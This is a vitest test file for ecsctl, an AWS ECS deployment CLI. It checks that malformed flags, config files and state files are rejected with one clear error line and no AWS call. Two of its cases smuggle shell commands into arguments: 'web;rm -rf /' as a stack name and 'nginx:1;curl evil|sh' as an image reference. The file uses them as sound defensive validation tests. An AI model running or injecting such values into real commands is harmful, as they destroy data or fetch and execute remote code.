/**
 * Hostile and bad input to every command (the step commands, up, down, instances, lb, service,
 * image, logs, status, --config, state files): each case exits with its documented code, prints
 * exactly one line on stderr (no stack trace), makes no AWS call (the endpoint is a recorder that
 * counts every request) and leaves the state file byte-identical (or absent).
 * Then, against moto: a state naming resources that no longer exist is not bad input (`status`
 * reports the drift, `down` succeeds), and an unreachable endpoint fails fast with one clear line.
 */
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../harness/cli.js';
import type { Proxy } from '../harness/proxy.js';
import { expectRejectedBeforeAnyCall, startRecorder, type BadInputCase } from '../harness/bad-input.js';
import { startMoto, type Moto, freePort } from '../harness/moto.js';
import { verifyClients } from '../harness/aws.js';
import { inventory } from '../harness/inventory.js';

const ARN = 'arn:aws:ecs:us-east-1:123456789012';
const VALID_STATE = `${JSON.stringify({ version: 1, name: 'web', region: 'us-east-1', cluster: { name: 'web', arn: `${ARN}:cluster/web` } }, null, 2)}\n`;
const IMG = ['--image', 'nginx:1.27'];

/** The step commands and the global options. */
const stepCases: BadInputCase[] = [
  {
    why: 'uppercase stack name',
    args: ['repo', 'create', '--name', 'Web'],
    code: 2,
    message: /--name "Web" is not a valid stack name/,
  },
  {
    why: 'stack name with a leading digit',
    args: ['cluster', 'create', '--name', '1web'],
    code: 2,
    message: /not a valid stack name/,
  },
  {
    why: 'stack name with shell metacharacters',
    args: ['repo', 'create', '--name', 'web;rm -rf /'],
    code: 2,
    message: /not a valid stack name/,
  },
  {
    why: 'stack name of 29 characters',
    args: ['repo', 'create', '--name', 'a'.repeat(29)],
    code: 2,
    message: /2-28 characters/,
  },
  { why: 'empty stack name', args: ['repo', 'create', '--name', ''], code: 2, message: /not a valid stack name/ },
  {
    why: 'memory 0',
    args: ['taskdef', 'register', '--name', 'web', '--image', 'nginx:1', '--memory', '0'],
    code: 2,
    message: /--memory must be a whole number from 4/,
  },
  {
    why: 'memory not a number',
    args: ['taskdef', 'register', '--name', 'web', '--image', 'nginx:1', '--memory', 'abc'],
    code: 2,
    message: /--memory must be a whole number/,
  },
  {
    why: 'container port 70000',
    args: ['taskdef', 'register', '--name', 'web', '--image', 'nginx:1', '--container-port', '70000'],
    code: 2,
    message: /--container-port must be a whole number from 1 to 65535/,
  },
  {
    why: 'cpu 1e9',
    args: ['taskdef', 'register', '--name', 'web', '--image', 'nginx:1', '--cpu', '1e9'],
    code: 2,
    message: /--cpu must be a whole number/,
  },
  {
    why: 'invalid image reference',
    args: ['taskdef', 'register', '--name', 'web', '--image', 'Not An Image'],
    code: 2,
    message: /--image "Not An Image" is not a valid image reference/,
  },
  {
    why: 'env without =',
    args: ['taskdef', 'register', '--name', 'web', '--image', 'nginx:1', '--env', 'NOEQUALS'],
    code: 2,
    message: /--env must look like KEY=VALUE/,
  },
  {
    why: 'task definition file missing',
    args: ['taskdef', 'register', '--name', 'web', '--file', 'nope.json'],
    code: 2,
    message: /--file nope.json: no such file/,
  },
  {
    why: 'task definition file not JSON',
    args: ['taskdef', 'register', '--name', 'web', '--file', 'bad.json'],
    code: 2,
    message: /--file bad.json is not valid JSON/,
    files: { 'bad.json': '{"family": "web",' },
  },
  {
    why: 'task definition file without containers',
    args: ['taskdef', 'register', '--name', 'web', '--file', 'empty.json'],
    code: 2,
    message: /not a task definition: containerDefinitions/,
    files: { 'empty.json': '{"family":"web","containerDefinitions":[]}' },
  },
  {
    why: 'no image recorded and none given',
    args: ['taskdef', 'register'],
    code: 2,
    message: /no image recorded in the state file.*ecsctl image push/,
    state: VALID_STATE,
  },
  {
    why: 'endpoint not a URL',
    args: ['cluster', 'show', '--endpoint-url', 'not-a-url'],
    code: 2,
    message: /--endpoint-url "not-a-url" is not a URL/,
    state: VALID_STATE,
  },
  {
    why: 'AWS_ENDPOINT_URL not a URL',
    args: ['cluster', 'show'],
    code: 2,
    message: /AWS_ENDPOINT_URL must be an http:\/\/ or https:\/\/ URL, got "ftp:\/\/x"/,
    state: VALID_STATE,
    env: { AWS_ENDPOINT_URL: 'ftp://x' },
  },
  {
    why: 'no region anywhere',
    args: ['repo', 'create', '--name', 'web'],
    code: 2,
    message: /no AWS Region/,
    env: { AWS_REGION: undefined },
  },
  {
    why: 'malformed region',
    args: ['repo', 'create', '--name', 'web', '--region', 'moon-1'],
    code: 2,
    message: /--region "moon-1" is not an AWS Region/,
  },
  { why: 'unknown command', args: ['repo', 'crate'], code: 2, message: /unknown command 'crate'/ },
  { why: 'unknown flag', args: ['cluster', 'create', '--bogus'], code: 2, message: /unknown option '--bogus'/ },
  {
    why: 'delete without --yes and no terminal',
    args: ['cluster', 'delete'],
    code: 2,
    message: /deletes resources and stdin is not a terminal.*--yes/,
    state: VALID_STATE,
  },
  {
    why: 'truncated state file',
    args: ['cluster', 'create'],
    code: 3,
    message: /is not valid JSON \(truncated/,
    state: VALID_STATE.slice(0, 40),
  },
  {
    why: 'unknown state version',
    args: ['cluster', 'create'],
    code: 3,
    message: /has version 9; this ecsctl reads version 1/,
    state: VALID_STATE.replace('"version": 1', '"version": 9'),
  },
  {
    why: 'state of another region',
    args: ['cluster', 'create', '--region', 'eu-west-1'],
    code: 3,
    message: /is for region us-east-1, not eu-west-1/,
    state: VALID_STATE,
  },
  {
    why: 'state of another stack',
    args: ['cluster', 'create', '--name', 'shop'],
    code: 3,
    message: /holds stack web, not shop/,
    state: VALID_STATE,
  },
  {
    why: 'state section malformed',
    args: ['cluster', 'show'],
    code: 3,
    message: /invalid at cluster.arn/,
    state: VALID_STATE.replace(/"arn": "[^"]+"/, '"arn": 7'),
  },
  {
    why: '--state is a directory',
    args: ['cluster', 'create', '--name', 'web', '--state', 'adir'],
    code: 3,
    message: /state file adir is a directory/,
  },
];

/** Everything else. */
const cases: BadInputCase[] = [
  // up: every numeric flag out of range or not a number, and the other checked flags
  {
    why: 'up --desired-count -1',
    args: ['up', '--name', 'web', ...IMG, '--desired-count', '-1'],
    code: 2,
    message: /--desired-count must be a whole number from 0 to 5000, got "-1"/,
  },
  {
    why: 'up --desired-count abc',
    args: ['up', '--name', 'web', ...IMG, '--desired-count', 'abc'],
    code: 2,
    message: /--desired-count must be a whole number/,
  },
  {
    why: 'up --desired-count 1e9',
    args: ['up', '--name', 'web', ...IMG, '--desired-count', '1e9'],
    code: 2,
    message: /--desired-count must be a whole number/,
  },
  {
    why: 'up --instance-count 0',
    args: ['up', '--name', 'web', ...IMG, '--instance-count', '0'],
    code: 2,
    message: /--instance-count must be a whole number from 1 to 20/,
  },
  {
    why: 'up --container-port 70000',
    args: ['up', '--name', 'web', ...IMG, '--container-port', '70000'],
    code: 2,
    message: /--container-port must be a whole number from 1 to 65535/,
  },
  {
    why: 'up --listener-port 0',
    args: ['up', '--name', 'web', ...IMG, '--listener-port', '0'],
    code: 2,
    message: /--listener-port must be a whole number from 1 to 65535/,
  },
  {
    why: 'up --memory 0',
    args: ['up', '--name', 'web', ...IMG, '--memory', '0'],
    code: 2,
    message: /--memory must be a whole number from 4/,
  },
  {
    why: 'up --wait-timeout bogus',
    args: ['up', '--name', 'web', ...IMG, '--wait-timeout', 'bogus'],
    code: 2,
    message: /--wait-timeout must be a duration/,
  },
  {
    why: 'up --image with an invalid reference',
    args: ['up', '--name', 'web', '--image', 'Not An Image'],
    code: 2,
    message: /--image "Not An Image" is not a valid image reference/,
  },
  {
    why: 'up --image with shell metacharacters',
    args: ['up', '--name', 'web', '--image', 'nginx:1;curl evil|sh'],
    code: 2,
    message: /is not a valid image reference/,
  },
  {
    why: 'up --instance-type malformed',
    args: ['up', '--name', 'web', ...IMG, '--instance-type', 'T3 small'],
    code: 2,
    message: /--instance-type "T3 small" is not an EC2 instance type/,
  },
  {
    why: 'up --health-check-path without /',
    args: ['up', '--name', 'web', ...IMG, '--health-check-path', 'health'],
    code: 2,
    message: /--health-check-path must be a path starting with \//,
  },
  {
    why: 'up --log-retention-days 4',
    args: ['up', '--name', 'web', ...IMG, '--log-retention-days', '4'],
    code: 2,
    message: /--log-retention-days must be one of/,
  },
  {
    why: 'up --tag with a space',
    args: ['up', '--name', 'web', '--tag', 'bad tag'],
    code: 2,
    message: /--tag "bad tag" is not a valid image tag/,
  },
  {
    why: 'up --registry not a host',
    args: ['up', '--name', 'web', '--registry', 'not a host'],
    code: 2,
    message: /--registry "not a host" is not a registry address: use HOST or HOST:PORT/,
  },
  {
    why: 'up --context missing',
    args: ['up', '--name', 'web', '--context', 'nowhere'],
    code: 2,
    message: /--context "nowhere" is not a directory/,
  },
  {
    why: 'up --dockerfile missing in the context',
    args: ['up', '--name', 'web', '--context', 'ctx', '--dockerfile', 'nope'],
    code: 2,
    message: /--dockerfile "nope": no such file in context "ctx"/,
  },
  {
    why: 'up without --image and no Dockerfile in the default context',
    args: ['up', '--name', 'web'],
    code: 2,
    message: /--dockerfile "Dockerfile": no such file in context "\."$/,
  },
  {
    why: 'up --name uppercase',
    args: ['up', '--name', 'WEB', ...IMG],
    code: 2,
    message: /--name "WEB" is not a valid stack name/,
  },
  { why: 'up unknown flag', args: ['up', '--bogus'], code: 2, message: /unknown option '--bogus'/ },
  // --config
  {
    why: '--config missing',
    args: ['up', '--name', 'web', ...IMG, '--config', 'nope.json'],
    code: 2,
    message: /--config nope.json: no such file/,
  },
  {
    why: '--config invalid JSON',
    args: ['up', '--name', 'web', ...IMG, '--config', 'bad.json'],
    code: 2,
    message: /--config bad.json is not valid JSON/,
    files: { 'bad.json': '{"desiredCount": 4,' },
  },
  {
    why: '--config unknown key',
    args: ['up', '--name', 'web', ...IMG, '--config', 'c.json'],
    code: 2,
    message: /--config c.json: unknown key "colour"/,
    files: { 'c.json': '{"desiredCount": 4, "colour": "red"}' },
  },
  {
    why: '--config wrong type',
    args: ['up', '--name', 'web', ...IMG, '--config', 'c.json'],
    code: 2,
    message: /--config c.json: desiredCount: .*expected number/,
    files: { 'c.json': '{"desiredCount": "four"}' },
  },
  {
    why: '--config value out of range',
    args: ['up', '--name', 'web', ...IMG, '--config', 'c.json'],
    code: 2,
    message: /--config: desiredCount must be a whole number from 0 to 5000, got "-1"/,
    files: { 'c.json': '{"desiredCount": -1}' },
  },
  {
    why: '--config an array',
    args: ['up', '--name', 'web', ...IMG, '--config', 'c.json'],
    code: 2,
    message: /--config c.json: top level: .*expected object/,
    files: { 'c.json': '[1, 2]' },
  },
  // down
  {
    why: 'down without --yes and no terminal',
    args: ['down'],
    code: 2,
    message: /down deletes resources and stdin is not a terminal.*--yes/,
    state: VALID_STATE,
  },
  {
    why: 'down --wait-timeout 0',
    args: ['down', '--yes', '--wait-timeout', '0'],
    code: 2,
    message: /--wait-timeout must be a duration/,
    state: VALID_STATE,
  },
  {
    why: 'down on a truncated state',
    args: ['down', '--yes'],
    code: 3,
    message: /is not valid JSON \(truncated/,
    state: VALID_STATE.slice(0, 50),
  },
  {
    why: 'down on a state of another stack',
    args: ['down', '--yes', '--name', 'shop'],
    code: 3,
    message: /holds stack web, not shop/,
    state: VALID_STATE,
  },
  // instances, lb, service, image, logs
  {
    why: 'instances create --count 0',
    args: ['instances', 'create', '--count', '0'],
    code: 2,
    message: /--count must be a whole number from 1 to 20/,
    state: VALID_STATE,
  },
  {
    why: 'instances create --ingress-cidr /99',
    args: ['instances', 'create', '--ingress-cidr', '10.0.0.0/99'],
    code: 2,
    message: /is not an IPv4 CIDR block/,
    state: VALID_STATE,
  },
  {
    why: 'instances create --ami bogus',
    args: ['instances', 'create', '--ami', 'bogus'],
    code: 2,
    message: /--ami "bogus" is not a/,
    state: VALID_STATE,
  },
  {
    why: 'lb create --listener-port 0',
    args: ['lb', 'create', '--listener-port', '0'],
    code: 2,
    message: /--listener-port must be a whole number from 1 to 65535/,
    state: VALID_STATE,
  },
  {
    why: 'lb create --healthy-threshold 1',
    args: ['lb', 'create', '--healthy-threshold', '1'],
    code: 2,
    message: /--healthy-threshold must be a whole number from 2 to 10/,
    state: VALID_STATE,
  },
  {
    why: 'lb create --health-check-interval 1s',
    args: ['lb', 'create', '--health-check-interval', '1s'],
    code: 2,
    message: /--health-check-interval must be whole seconds from 5s to 300s/,
    state: VALID_STATE,
  },
  {
    why: 'lb probe --requests abc',
    args: ['lb', 'probe', '--requests', 'abc'],
    code: 2,
    message: /--requests must be a whole number from 1 to 1000/,
    state: VALID_STATE,
  },
  {
    why: 'service create --desired-count -1',
    args: ['service', 'create', '--desired-count', '-1'],
    code: 2,
    message: /--desired-count must be a whole number from 0 to 5000/,
    state: VALID_STATE,
  },
  {
    why: 'service update --desired-count 1e9',
    args: ['service', 'update', '--desired-count', '1e9'],
    code: 2,
    message: /--desired-count must be a whole number/,
    state: VALID_STATE,
  },
  {
    why: 'service create --wait-timeout bogus',
    args: ['service', 'create', '--wait-timeout', 'bogus'],
    code: 2,
    message: /--wait-timeout must be a duration/,
    state: VALID_STATE,
  },
  {
    why: 'image build --context missing',
    args: ['image', 'build', '--context', 'nowhere'],
    code: 2,
    message: /--context "nowhere" is not a directory/,
    state: VALID_STATE,
  },
  {
    why: 'image push --tag invalid',
    args: ['image', 'push', '--tag', 'UPPER CASE!'],
    code: 2,
    message: /--tag "UPPER CASE!" is not a valid image tag/,
    state: VALID_STATE,
  },
  {
    why: 'logs --since yesterday',
    args: ['logs', '--since', 'yesterday'],
    code: 2,
    message: /--since must be a duration/,
    state: VALID_STATE,
  },
  {
    why: 'logs --task with a space',
    args: ['logs', '--task', 'x y'],
    code: 2,
    message: /--task "x y" is not an ECS task ID/,
    state: VALID_STATE,
  },
  // status and global flags, state files
  {
    why: 'status --endpoint-url not-a-url',
    args: ['status', '--endpoint-url', 'not-a-url'],
    code: 2,
    message: /--endpoint-url "not-a-url" is not a URL/,
    state: VALID_STATE,
  },
  {
    why: 'status --region moon-1',
    args: ['status', '--region', 'moon-1'],
    code: 2,
    message: /--region "moon-1" is not an AWS Region/,
    state: VALID_STATE,
  },
  {
    why: 'status --state at a directory',
    args: ['status', '--state', 'adir'],
    code: 3,
    message: /state file adir is a directory/,
  },
  {
    why: 'status on a truncated state',
    args: ['status'],
    code: 3,
    message: /is not valid JSON \(truncated/,
    state: VALID_STATE.slice(0, 40),
  },
  {
    why: 'status on an unknown state version',
    args: ['status'],
    code: 3,
    message: /has version 2; this ecsctl reads version 1/,
    state: VALID_STATE.replace('"version": 1', '"version": 2'),
  },
  {
    why: 'status on a state of another region',
    args: ['status', '--region', 'eu-west-1'],
    code: 3,
    message: /is for region us-east-1, not eu-west-1/,
    state: VALID_STATE,
  },
  {
    why: 'up on a state of another region',
    args: ['up', ...IMG, '--region', 'eu-west-1'],
    code: 3,
    message: /is for region us-east-1, not eu-west-1/,
    state: VALID_STATE,
  },
  { why: 'up on a state that is not an object', args: ['up', ...IMG], code: 3, message: /state file/, state: '[]\n' },
  { why: 'unknown top-level command', args: ['bogus'], code: 2, message: /unknown command 'bogus'/ },
  { why: 'unknown subcommand', args: ['lb', 'destroy'], code: 2, message: /unknown command 'destroy'/ },
];

let recorder: Proxy;

beforeAll(async () => {
  recorder = await startRecorder();
});
afterAll(async () => recorder?.close());

describe('bad input to the step commands (repo, cluster, taskdef) and the globals', () => {
  it.each(stepCases.map((c) => [c.why, c] as const))('%s', async (_, c) => expectRejectedBeforeAnyCall(c, recorder));
});

describe('bad input to up, down, instances, lb, service, image, logs, status, --config and state files', () => {
  it.each(cases.map((c) => [c.why, c] as const))('%s', async (_, c) => expectRejectedBeforeAnyCall(c, recorder));
});

describe('not bad input, and a dead endpoint', () => {
  let moto: Moto;
  beforeAll(async () => {
    moto = await startMoto();
  });
  afterAll(async () => moto?.stop());

  const GHOST_STATE = `${JSON.stringify(
    {
      version: 1,
      name: 'ghost',
      region: 'us-east-1',
      cluster: { name: 'ghost', arn: `${ARN}:cluster/ghost` },
      service: { name: 'ghost', arn: `${ARN}:service/ghost/ghost` },
      taskDefinition: {
        family: 'ghost',
        arn: `${ARN}:task-definition/ghost:1`,
        revision: 1,
        containerName: 'ghost',
        containerPort: 8080,
      },
      instances: { ids: ['i-0123456789abcdef0'] },
      logGroup: { name: '/ecs/ghost' },
    },
    null,
    2,
  )}\n`;

  it('a state naming resources that do not exist: status reports the drift, down succeeds and changes nothing in AWS', async () => {
    const cwd = await mkdtemp(join(tmpdir(), 'ecsctl-rel-ghost-'));
    const statePath = join(cwd, 'ecsctl.state.json');
    await writeFile(statePath, GHOST_STATE, { mode: 0o600 });
    const aws = verifyClients(moto.endpoint);
    const before = await inventory(aws);

    const status = await runCli(['status', '--json'], { cwd, endpoint: moto.endpoint });
    expect(status.code, status.stderr).toBe(0);
    const s = JSON.parse(status.stdout);
    expect(s.drift).toBeGreaterThan(0);
    const text = await runCli(['status'], { cwd, endpoint: moto.endpoint });
    expect(text.stdout).toMatch(/missing/);
    expect(await readFile(statePath, 'utf8')).toBe(GHOST_STATE); // status only reads

    const down = await runCli(['down', '--yes'], { cwd, endpoint: moto.endpoint });
    expect(down.code, down.stderr).toBe(0);
    const after = JSON.parse(await readFile(statePath, 'utf8'));
    expect(after).toEqual({ version: 1, name: 'ghost', region: 'us-east-1' });
    expect(await inventory(aws)).toEqual(before);
  });

  it('an unreachable endpoint fails within seconds with one clear line and leaves the state as it was', async () => {
    const cwd = await mkdtemp(join(tmpdir(), 'ecsctl-rel-dead-'));
    const statePath = join(cwd, 'ecsctl.state.json');
    await writeFile(statePath, VALID_STATE, { mode: 0o600 });
    const dead = `http://127.0.0.1:${await freePort()}`;
    const started = Date.now();
    const r = await runCli(['status'], { cwd, endpoint: dead });
    const seconds = (Date.now() - started) / 1000;
    expect(r.code).toBe(1);
    const lines = r.stderr.split('\n').filter((l) => l.length > 0);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/cannot reach the AWS endpoint \(ECONNREFUSED\)\. Check --endpoint-url/);
    expect(seconds).toBeLessThan(15);
    expect(await readFile(statePath, 'utf8')).toBe(VALID_STATE);
  });
});
